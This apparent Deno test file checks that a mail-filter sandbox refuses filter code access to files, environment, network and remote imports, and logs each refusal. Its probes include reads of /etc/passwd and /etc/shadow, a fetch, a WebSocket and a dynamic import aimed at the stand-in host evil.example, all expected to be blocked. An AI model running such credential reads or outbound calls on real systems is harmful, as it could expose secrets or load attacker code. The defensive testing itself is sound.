import assert from "node:assert/strict";
import { readArgs } from "../../cli/args.ts";
import { testIo } from "../../cli/test_io.ts";
import { command as tryCommand } from "../../cli/commands/try.ts";
import { RefusalBook } from "./refusal_book.ts";

/** Runs a mail through a filter in a sandbox; gives the lines of its log. */
async function logOf(filter: string, permissions = "{}"): Promise<string[]> {
  const folder = await Deno.makeTempDir({ prefix: "millrace_refusals_" });
  try {
    await Deno.writeTextFile(`${folder}/f.ts`, filter);
    await Deno.writeTextFile(
      `${folder}/m.yaml`,
      `listen: unix:/m.sock\nfilters:\n- use: ./f.ts\n  permissions: ${permissions}\n`,
    );
    const io = testIo({ files: { "a.eml": "Subject: x\n\nhi\n" } });
    await tryCommand.run(readArgs(tryCommand.spec, ["-c", `${folder}/m.yaml`, "a.eml"]), io);
    return io.err().trimEnd().split("\n").map((line) => line.replace(/^\S+ /, ""));
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
}

Deno.test("what Deno refuses a filter is logged with filter, right and value, and the filter gets Deno's error", async () => {
  const tries = {
    readFile: 'Deno.readTextFile("/etc/passwd")',
    readDir: '(async () => { for await (const _ of Deno.readDir("/etc")) break; })()',
    stat: 'Deno.stat("/etc/shadow")',
    writeFile: 'Deno.writeTextFile("/tmp/x", "")',
    env: '(async () => Deno.env.get("HOME"))()',
    connect: 'Deno.connect({ hostname: "198.51.100.7", port: 25 })',
    fetch: 'fetch("https://evil.example/?q=1")',
    socket: '(async () => new WebSocket("wss://evil.example:99/"))()',
    hostname: "(async () => Deno.hostname())()",
    imported: 'import("https://evil.example/" + "x.ts")',
  };
  const lines = await logOf(`export default { async message(_mail, c) {
    const names = [];
${
    Object.values(tries).map((call) =>
      `    await ${call}.then(() => names.push("let through"), (e) => names.push(e.name));\n`
    ).join("")
  }
    c.log.info(names.join(" "));
  } };`);
  assert.deepEqual(
    lines,
    [
      ["read", "/etc/passwd"],
      ["read", "/etc"],
      ["read", "/etc/shadow"],
      ["write", "/tmp/x"],
      ["env", "HOME"],
      ["net", "198.51.100.7:25"],
      ["net", "evil.example:443"],
      ["net", "evil.example:99"],
      ["sys", "hostname"],
      ["import", "https://evil.example/x.ts"],
    ].map(([right, value]) =>
      `warn Filter "f" was refused ${right} access to "${value}" filter=f right=${right} value=${value} times=1`
    ).concat(`info ${"NotCapable ".repeat(9)}TypeError filter=f`),
  );
});

Deno.test("what is granted is no refusal, and other errors are none", async () => {
  const lines = await logOf(
    `export default { async message(_mail, c) {
    c.log.info(String((await Deno.readTextFile("/etc/hostname")).length > 0));
    await Deno.readTextFile("/etc/hostname.none").catch((e) => c.log.info(e.name));
  } };`,
    "{ read: [/etc/hostname, /etc/hostname.none] }",
  );
  assert.deepEqual(lines, ["info true filter=f", "info NotFound filter=f"]);
});

Deno.test("RefusalBook counts every refusal, and logs each at every tenfold, not more than ten a second", () => {
  let now = 0;
  const logged: string[] = [];
  const book = new RefusalBook((message, { times }) => logged.push(`${message} ${times}`), () => now);
  for (let i = 0; i < 150; i++) book.note("read", "/a");
  assert.deepEqual(logged, [1, 10, 100].map((times) => `was refused read access to "/a" ${times}`));
  for (let i = 0; i < 5000; i++) book.note("net", `host${i}`);
  assert.equal(logged.length, 10);
  now = 1000;
  book.note("\u001b[31m", { toString: "no" });
  book.note("env", "A\n2026 info fake");
  assert.deepEqual(logged.slice(10), [
    'was refused unknown access to "" 1',
    'was refused env access to "A\\n2026 info fake" 1',
  ]);
  assert.deepEqual(Object.fromEntries(book.counts), { read: 150, net: 5000, unknown: 1, env: 1 });
  for (let i = 0; i < 200; i++) book.note(`right${"x".repeat(i % 20)}`, "");
  assert.ok(book.counts.size <= 50);
});
